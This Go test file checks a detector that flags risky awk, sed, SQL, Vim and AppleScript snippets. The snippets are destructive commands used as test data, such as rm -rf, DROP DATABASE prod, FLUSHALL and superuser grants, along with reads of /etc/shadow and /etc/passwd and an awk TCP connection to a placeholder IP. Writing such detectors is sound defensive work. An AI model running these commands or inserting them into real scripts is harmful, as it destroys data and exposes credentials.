package lang

import "testing"

func TestAwk(t *testing.T) {
	runExamples(t, "awk", []example{
		{"system", `{ system("rm -rf " d "/x " $1) }`, []string{"shell| rm -rf <d>/x <$1>"}},
		{"pipes", `{ print $1 | "sort -u"; "date" | getline now }`, []string{"shell| sort -u", "shell| date"}},
		{"redirections", `{ print > "a"; print "x" >> ("b" ".c"); printf "%s", $1 > "/dev/stderr" }`, []string{"tee a", "tee -a b.c"}},
		{"a variable", `BEGIN { c = "rm " "x"; system(c) }`, []string{"shell| rm x"}},
		{"a file is read", `BEGIN { while ((getline line < "/etc/shadow") > 0) print line }`, []string{"cat /etc/shadow"}},
		{"over a connection", `BEGIN { s = "/inet/tcp/0/192.0.2.1/99"; s |& getline c; while ((c |& getline r) > 0) print r |& s }`, []string{"run: shell <net>"}},
		{"data", `/system\("x"\)/ { print "system(1)", $2 > 3 ? "a" : "b" } # system("y")`, []string{"tee 3"}},
		{"a comparison redirects nothing", `$1 > 3 { if ($2 > max) max = $2 } END { print max }`, nil},
	})
}

func TestSed(t *testing.T) {
	runExamples(t, "sed", []example{
		{"e", "1e id", []string{"shell| id"}},
		{"the flag e", "s/.*/rm x/e\ns/a/ls/ge", []string{"shell| rm x", "shell| ls<pattern space>"}},
		{"w", "s/a/b/w out\n/x/,/y/{p;w log\n}", []string{"tee out", "tee log"}},
		{"r", "/x/r more.txt", []string{"cat more.txt"}},
		{"data", "s/e /w /g;/e rm/d;y/abc/def/;$ a e id", nil},
		{"other delimiters", `s|/e w|/w e|;\,/e,d`, nil},
	})
}

func TestSQL(t *testing.T) {
	runExamples(t, "sql", []example{
		{"drop", `DROP TABLE IF EXISTS a.b, "c" CASCADE; drop database prod; DROP MATERIALIZED VIEW v`, []string{"drop: DROP TABLE a.b c", "drop: DROP DATABASE prod", "drop: DROP MATERIALIZED VIEW v"}},
		{"truncate", `TRUNCATE TABLE a, b; truncate c`, []string{"drop: TRUNCATE TABLE a b", "drop: TRUNCATE TABLE c"}},
		{"every row", `DELETE FROM a; delete from b where 1=1; UPDATE c SET d = 1; DELETE FROM e WHERE true`, []string{"drop:all: DELETE a", "drop:all: DELETE b", "drop:all: UPDATE c", "drop:all: DELETE e"}},
		{"some rows", `DELETE FROM a WHERE id = 1; UPDATE b SET c = 1 WHERE d IN (SELECT 1); INSERT INTO e VALUES (1) ON CONFLICT DO UPDATE SET f = 2`, nil},
		{"columns", `ALTER TABLE a DROP COLUMN b; ALTER TABLE a DROP CONSTRAINT c; ALTER TABLE a ADD COLUMN d INT`, []string{"drop: ALTER TABLE DROP COLUMN a"}},
		{"rows of ClickHouse", `ALTER TABLE a DELETE WHERE 1; ALTER TABLE b DELETE WHERE c = 2`, []string{"drop:all: ALTER TABLE DELETE a"}},
		{"functions of PostgreSQL", `SELECT pg_terminate_backend(pid) FROM pg_stat_activity; SELECT pg_drop_replication_slot('a')`, []string{"service: pg_terminate_backend", "drop: pg_drop_replication_slot"}},
		{"SurrealDB", `REMOVE DATABASE a; REMOVE FIELD b ON c`, []string{"drop: REMOVE DATABASE a"}},
		{"grants", `GRANT ALL ON a TO b; GRANT SELECT ON a TO b`, []string{"privilege: GRANT ALL b"}},
		{"owned", `DROP OWNED BY a; DROP ROLE b`, []string{"drop:all: DROP OWNED a", "drop: DROP ROLE b"}},
		{"rolled back", `BEGIN; DROP TABLE a; ROLLBACK; BEGIN; DROP TABLE b; COMMIT`, []string{"drop: DROP TABLE b"}},
		{"explained", `EXPLAIN DELETE FROM a; EXPLAIN (ANALYZE) DELETE FROM b`, []string{"drop:all: DELETE b"}},
		{"programs and files", `COPY a TO PROGRAM 'sh -c id'; COPY a TO '/t/x'; SELECT 1 INTO OUTFILE '/t/y'; SELECT pg_read_file('/etc/passwd')`, []string{"shell| sh -c id", "tee /t/x", "tee /t/y", "cat /etc/passwd"}},
		{"shells of the client", "\\! id\nSELECT 1;\n.shell pwd\n\\copy a to '/t/z' csv\n\\o |mail x", []string{"shell| id", "shell| pwd", "tee /t/z", "shell| mail x"}},
		{"a block", `DO $$ BEGIN DROP TABLE a; END $$`, []string{"sql|  BEGIN DROP TABLE a; END "}},
		{"inside of a block", ` BEGIN DROP TABLE a; END `, []string{"drop: DROP TABLE a"}},
		{"redis", `FLUSHALL`, []string{"drop:all: FLUSHALL"}},
		{"mongo", `db.users.drop(); db.dropDatabase(); db.a.deleteMany({}); db.b.deleteMany({c: 1}); db.d.find({})`, []string{"drop: drop db.users", "drop:all: dropDatabase db", "drop:all: deleteMany db.a"}},
		{"data", "SELECT 'DROP TABLE a', \"drop\" FROM b; -- DROP TABLE c\n/* DROP TABLE d; */ SELECT 'it''s; DROP TABLE e'; CREATE TABLE f (id INT); DROP TEMPORARY TABLE g", nil},
		{"an account that may do everything", `ALTER ROLE bob WITH SUPERUSER; CREATE USER eve`, []string{"privilege: SUPERUSER bob"}},
		{"a password", `ALTER USER bob IDENTIFIED BY 'x'`, []string{"user: a password bob"}},
		{"logs of the server", `PURGE BINARY LOGS TO 'x'`, []string{"drop:all: binary logs"}},
		{"what mysql runs in a comment", `/*!50000 DROP TABLE a */`, []string{"drop: DROP TABLE a"}},
	})
}

func TestVim(t *testing.T) {
	runExamples(t, "vim", []example{
		{"shell", ":!rm -rf a\n%!sort | sh\n:silent !id\nr !pwd\nw !sh", []string{"shell| rm -rf a", "shell| sort | sh", "shell| id", "shell| pwd", "shell| sh"}},
		{"files", "w! out | q!\nsaveas ~/b\nredir! > c | echo 'x' | redir END", []string{"tee out", "tee <home>/b", "tee c"}},
		{"languages", "py3 import os\nlua print(1)\n:python3 x()", []string{"python| import os", "lua| print(1)", "python| x()"}},
		{"functions", `call system("rm " . expand("~") . "/x") | call delete("d", "rf") | let y = system('id')`, []string{"shell| rm <home>/x", "rm -r -f d", "shell| id"}},
		{"execute", `execute "!id"`, []string{"vim| !id"}},
		{"data", "echo \"system('x')\"\nset nu | syntax on | 1,3d\n%s/a/b/g | wq\n\" !ls", nil},
	})
}

func TestAppleScript(t *testing.T) {
	runExamples(t, "applescript", []example{
		{"shell", "set d to \"/srv\"\ndo shell script \"rm -rf \" & d & quoted form of p", []string{"shell| rm -rf /srv<p>"}},
		{"as administrator", `do shell script "rm /x" with administrator privileges`, []string{"sudo sh -c rm /x"}},
		{"Finder", "tell application \"Finder\" to delete POSIX file \"/x\"\ntell application \"Finder\" to empty trash", []string{"mv /x <home>/.Trash", "rm -r <home>/.Trash"}},
		{"data", "-- do shell script \"x\"\ndisplay dialog \"do shell script\"", nil},
	})
}
